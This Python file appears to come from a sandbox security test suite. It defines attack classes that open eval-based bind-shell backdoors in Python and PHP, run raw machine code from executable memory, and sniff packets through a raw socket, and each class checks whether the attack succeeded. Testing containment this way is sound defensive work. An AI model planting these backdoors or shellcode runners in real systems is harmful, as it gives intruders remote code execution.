# SPDX-License-Identifier: GPL-2.0
"""Backdoors in the process: no other program is executed."""

import pathlib
import re

from bench.attacks.attack import ByApp, ByPhp
from bench.net import HOST, ask
from bench.patience import wait
from bench.servers.app import ROOT as APP


class Listening(ByApp):
    """A thread that listens on a port of its own and runs the Python that it is sent."""

    name = "backdoor-app-listen"
    is_quiet = True

    def run(self):
        self.python(f"""
import socket, threading
def door():
    sock = socket.create_server(({HOST!r}, 4460))
    sock.settimeout(15)
    peer, _ = sock.accept()
    peer.sendall(str(eval(peer.recv(4096))).encode())
    peer.close()
    sock.close()
threading.Thread(target=door, daemon=True).start()
""")

        def comes():
            try:
                self.loot += ask(4460, b"'shell-%d' % (41 + 1)", seconds=5)
            except OSError:
                pass
            return self.loot

        wait(comes, 10, 0.5)

    def damaged(self):
        return b"shell-42" in self.loot


class PhpListening(ByPhp):
    """The same in PHP."""

    name = "backdoor-php-listen"
    is_quiet = True

    def run(self):
        self.aside(
            self.php,
            f"$s = stream_socket_server('tcp://{HOST}:4461'); $c = stream_socket_accept($s, 12);"
            "fwrite($c, eval('return ' . fgets($c)));",
        )

        def comes():
            try:
                self.loot += ask(4461, b"'shell-' . (41 + 1);\n", seconds=5)
            except OSError:
                pass
            return self.loot

        wait(comes, 10, 0.5)

    def damaged(self):
        return b"shell-42" in self.loot


class Raw(ByApp):
    """Machine code from the wire, run in memory that was made for it. It makes a file where many are made."""

    name = "backdoor-app-raw-code"
    is_quiet = True
    file = pathlib.Path(f"{APP}/data/raw.json")

    def run(self):
        # open(path, O_CREAT | O_WRONLY, 0644), and back.
        code = bytes.fromhex("488d3d12000000" "be41000000" "baa4010000" "b802000000" "0f05" "c3")
        code += str(self.file).encode() + b"\0"
        self.python(f"""
import ctypes, mmap
memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
memory.write({code!r})
ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
""")

    def damaged(self):
        return self.file.exists()

    def cleanup(self):
        self.file.unlink(missing_ok=True)


class Sniffer(ByApp):
    """Listens to what others say on the wire, which a daemon of root may."""

    name = "backdoor-app-sniffer"
    is_quiet = True

    def run(self):
        self.loot = self.python("""
import socket, time
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
sock.settimeout(5)
end = time.monotonic() + 8
result = 0
while time.monotonic() < end and result < 20:
    sock.recv(65536)
    result += 1
result = "packets: %d" % result
""")

    def damaged(self):
        return re.search(rb"packets: [1-9]", self.loot) is not None


ATTACKS = [Listening, PhpListening, Raw, Sniffer]
